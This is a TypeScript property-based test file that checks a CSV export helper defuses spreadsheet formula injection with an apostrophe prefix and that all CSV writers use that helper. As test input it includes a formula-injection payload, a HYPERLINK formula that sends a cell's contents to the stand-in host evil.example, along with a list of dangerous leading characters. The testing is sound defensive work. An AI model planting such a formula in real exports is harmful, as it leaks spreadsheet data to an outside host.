import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCells, live } from '../../test/support/csv-cells';
import { toCsv } from './csv';

const DANGEROUS = ['=', '+', '-', '@', '\t', '\r', '\uFF1D'];

describe('CSV exports', () => {
  it('no cell starts like a formula, whatever people typed; every text survives behind an apostrophe', () => {
    const cell = fc.oneof(
      fc.string(),
      fc.tuple(fc.constantFrom(...DANGEROUS), fc.string()).map(([a, b]) => a + b),
      fc.constant('=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'),
    );
    fc.assert(
      fc.property(
        fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { maxLength: 5 }),
        (rows) => {
          const width = Math.max(1, ...rows.map((r) => r.length));
          const full = rows.map((r) => [...r, ...Array<string>(width - r.length).fill('')]);
          const header = Array.from({ length: width }, (_, i) => `cot${i}`);
          const cells = csvCells(toCsv(header, full));
          expect(live(cells)).toEqual([]);
          const read = cells.slice(width).map((c) => c.value);
          const want = full
            .flat()
            .map((v) => (/^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/.test(v) ? `'${v}` : v));
          // A row made of one empty cell is an empty line, which a reader may drop.
          if (!full.some((r) => r.every((v) => v === ''))) expect(read).toEqual(want);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('numbers stay numbers, negative ones included', () => {
    expect(toCsv(['a', 'b'], [[-3, '-3']]).slice(1)).toBe(`a,b\r\n-3,"'-3"\r\n`);
  });

  it('every file that writes a CSV writes it with the shared helper', async () => {
    const files: string[] = [];
    const walk = async (dir: string): Promise<void> => {
      for (const e of await readdir(dir, { withFileTypes: true })) {
        const path = join(dir, e.name);
        if (e.isDirectory()) await walk(path);
        else if (/\.tsx?$/.test(e.name) && !/\.test\.tsx?$/.test(e.name)) files.push(path);
      }
    };
    await walk('src');
    const writers: string[] = [];
    const bypassing: string[] = [];
    for (const path of files) {
      const source = await readFile(path, 'utf8');
      // A file input's `accept=".csv,text/csv"` reads CSV; anything else naming the type, or
      // offering a download, writes one.
      const writes = source
        .split('\n')
        .some((l) => (/text\/csv/.test(l) && !/accept/.test(l)) || /\bdownloadText\(/.test(l));
      if (!writes) continue;
      writers.push(path);
      if (!/\btoCsv\b/.test(source)) bypassing.push(path);
    }
    expect(bypassing).toEqual([]);
    expect(writers.length).toBeGreaterThanOrEqual(4);
  });
});
